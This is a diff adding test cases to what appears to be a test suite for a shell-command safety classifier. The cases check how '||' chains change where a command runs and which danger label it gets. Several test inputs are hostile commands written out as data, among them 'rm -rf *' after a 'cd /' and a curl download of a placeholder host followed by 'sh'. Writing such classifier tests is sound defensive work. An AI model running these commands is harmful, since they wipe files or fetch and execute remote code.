@@ -27,6 +27,20 @@ describe('a command is judged by what its shell knew when it ran, though the rul
   });
 });
 
+describe('what stands behind || runs where what is before it failed', () => {
+  it.each([
+    ['cd / || cd /tmp/x; rm -rf *', 'hardline fs.wipe fs.delete self.files'],
+    ['cd /; test -d x || cd /tmp; rm -rf *', 'hardline fs.wipe fs.delete self.files'],
+    ['curl -so t/x https://x.example; cd t || cd u; sh x', 'dangerous code.remote'],
+    ['cd /tmp/x || exit 1; rm -rf *', 'dangerous fs.delete'],
+    ['cd / || { echo no; exit 1; }; cat notes.txt', 'safe'],
+    ['cd /etc && exit || cd src; touch a', 'dangerous fs.protected'],
+    ['cd /etc || exit; cd -; touch a', 'safe'],
+  ])('%s', (command, said) => {
+    expect(judge(command)).toBe(said);
+  });
+});
+
 describe('a file that nobody had before may be removed', () => {
   it.each([
     'f=$(mktemp); rm "$f"',
